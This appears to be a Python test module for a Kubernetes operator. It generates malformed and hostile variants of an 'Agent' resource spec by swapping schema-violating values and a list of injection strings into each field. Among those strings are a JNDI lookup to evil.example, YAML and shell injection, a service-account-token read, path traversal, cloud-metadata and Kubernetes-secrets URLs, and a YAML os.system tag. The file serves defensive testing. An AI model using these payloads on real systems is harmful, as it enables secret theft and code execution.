"""Malformed and hostile Agents by the hundred: one value of an orderly Agent is replaced, drawn with a seed.

Malformed is what the CRD's own schema forbids: another type, beyond a bound, against a pattern, not in an enumeration, an unknown field.
Hostile are texts that mean something to YAML, shells, templates, loggers, paths or URLs, put wherever a text may stand.
"""

import copy
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

from tests.operator.hostile.samples import BY_NAME, INLINE, Spec

Schema = dict[str, Any]
Path = tuple[str | int, ...]

INJECTIONS = (
    "$(DAPR_API_TOKEN)",
    "$(HOLDFAST_AUDIT_KEY)",
    "{{ .Values.redis }}{{ lookup }}",
    "${jndi:ldap://evil.example/x}",
    'x"\n  dapr.io/sidecar-image: "evil',
    "x\n---\napiVersion: v1\nkind: Pod",
    "a=b:c,HOLDFAST_SECRET_X=victim:token",
    "../../../../etc/passwd",
    "file:///proc/self/environ",
    "http://169.254.169.254/latest/meta-data",
    "https://kubernetes.default.svc/api/v1/secrets",
    "$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); `id`",
    "victim",
    "victim.other",
    "other/victim",
    "\u202etxt\u0000".replace("\u0000", "\u2028"),
    "%s%s%n{0.__class__}",
    "!!python/object/apply:os.system [id]",
    "&a [*a,*a,*a]",
)


@dataclass(frozen=True)
class Case:
    """One hostile Agent.

    Attributes:
        name: what it tries; the same in every run with the same seed.
        spec: of the Agent.
        malformed: whether it is to be refused.
        agent: name of the Agent, where that is what is hostile.
        metadata: further metadata.
    """

    name: str
    spec: Any
    malformed: bool = False
    agent: str = ""
    metadata: tuple[tuple[str, Any], ...] = ()


def generated(schema: Schema, seed: int) -> tuple[list[Case], list[Case]]:
    """All malformed and all hostile cases of a CRD's `spec` schema, each in an order drawn with the seed."""
    malformed, hostile = [], []
    for which, sample in (("inline", INLINE), ("by name", BY_NAME)):
        for path, node, value in _places(schema, sample, ()):
            where = f"{which} {'.'.join(map(str, path))}"
            for what, wrong in _wrong(node, value):
                malformed.append(Case(f"{where}: {what}", _with(sample, path, wrong), malformed=True))
            if isinstance(value, str) and "enum" not in node:
                hostile += [Case(f"{where}: {text!r}", _with(sample, path, text)) for text in INJECTIONS]
    draw = random.Random(seed)
    draw.shuffle(malformed)
    draw.shuffle(hostile)
    return malformed, hostile


def _places(schema: Schema, value: Any, path: Path) -> Iterator[tuple[Path, Schema, Any]]:
    """Every value of a sample, with its path and its schema."""
    if path:
        yield path, schema, value
    if schema.get("x-kubernetes-preserve-unknown-fields"):
        return
    if isinstance(value, dict):
        for name, child in value.items():
            inner = schema.get("properties", {}).get(name) or schema.get("additionalProperties")
            if isinstance(inner, dict):
                yield from _places(inner, child, (*path, name))
    elif isinstance(value, list):
        for index, child in enumerate(value):
            yield from _places(schema["items"], child, (*path, index))


def _wrong(node: Schema, value: Any) -> Iterator[tuple[str, Any]]:
    """Values that the schema of this place forbids."""
    kind = node.get("type")
    if kind in _OTHER_TYPES:
        yield "another type", _OTHER_TYPES[kind]
    if kind == "string":
        yield "an object", {"a": "b"}
    if "enum" in node:
        yield "not one of the choices", "evil"
    for bound, what, wrong in _BEYOND:
        if bound in node:
            yield what, wrong(node[bound], value)
    if "properties" in node and not node.get("x-kubernetes-preserve-unknown-fields"):
        yield "an unknown field", {**value, "hostNetwork": True}


_OTHER_TYPES: Schema = {"string": 7, "integer": "7", "number": "7", "boolean": "true", "array": {"0": "x"}, "object": "x"}
_BEYOND: tuple[tuple[str, str, Callable[[Any, Any], Any]], ...] = (
    ("maxLength", "too long", lambda most, _: "a" * (most + 1)),
    ("pattern", "against the pattern", lambda *_: " ../\n"),
    ("maximum", "too much", lambda most, _: most + 1),
    ("minimum", "too little", lambda least, _: least - 1),
    ("maxItems", "too many", lambda most, value: [copy.deepcopy(value[0])] * (most + 1) if value else [{}] * (most + 1)),
)


def _with(sample: Spec, path: Path, value: Any) -> Spec:
    found = copy.deepcopy(sample)
    place: Any = found
    for step in path[:-1]:
        place = place[step]
    place[path[-1]] = value
    return found
